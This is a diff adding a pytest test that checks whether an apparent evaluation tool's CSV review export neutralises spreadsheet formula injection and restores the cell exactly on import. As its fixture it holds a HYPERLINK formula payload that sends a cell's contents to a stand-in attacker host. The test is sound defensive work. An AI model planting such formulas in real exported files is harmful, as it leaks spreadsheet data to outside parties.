@@ -189,3 +189,26 @@ def test_scenarios_given_twice_reads_both_sets_and_refuses_an_id_that_differs_be
     (own / "conduit-explicit.yaml").write_text(text.replace("The Conduit", "Another Conduit", 1), encoding="utf-8")
     err = _refused(capsys, str(labelled), "--items-out", str(items_file), "--scenarios", SCENARIOS, "--scenarios", str(own))
     assert "'conduit-explicit' is in both" in err and "--scenarios" in err
+
+
+def test_a_reply_a_spreadsheet_would_run_is_exported_as_text_and_imports_as_it_was(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    from psychosis_tests.common.csv_cells import csv_cell, from_csv_cell
+
+    formula = '=HYPERLINK("http://attacker.invalid/?d="&B2,"open")'
+    for text in (formula, "+1", "-x", "@SUM(1)", "\tx", "'=x", "''=x", "'plain", "plain", "", "'"):
+        assert from_csv_cell(str(csv_cell(text))) == text, text
+    run_dir = _run(tmp_path, "conduit-explicit")
+    case_path = run_dir / "cases" / "conduit-explicit.json"
+    case_path.write_text(case_path.read_text(encoding="utf-8").replace('"reply 7"', json.dumps(formula)), encoding="utf-8")
+    out = tmp_path / "review.csv"
+    assert main(["review-export", str(run_dir), "--out", str(out), "--per-stratum", "50"]) == 0
+    with out.open(newline="", encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    (cell,) = [r["reply"] for r in rows if r["turn"] == "7"]
+    assert cell == "'" + formula  # a spreadsheet shows it as text
+    labelled = _write(tmp_path / "labelled.csv", _label(rows))
+    items_file = tmp_path / "items.jsonl"
+    assert main(["review-import", str(labelled), "--items-out", str(items_file), "--scenarios", SCENARIOS]) == 0
+    assert next(i for i in load_item_file(items_file) if i.turn == 7).reply == formula
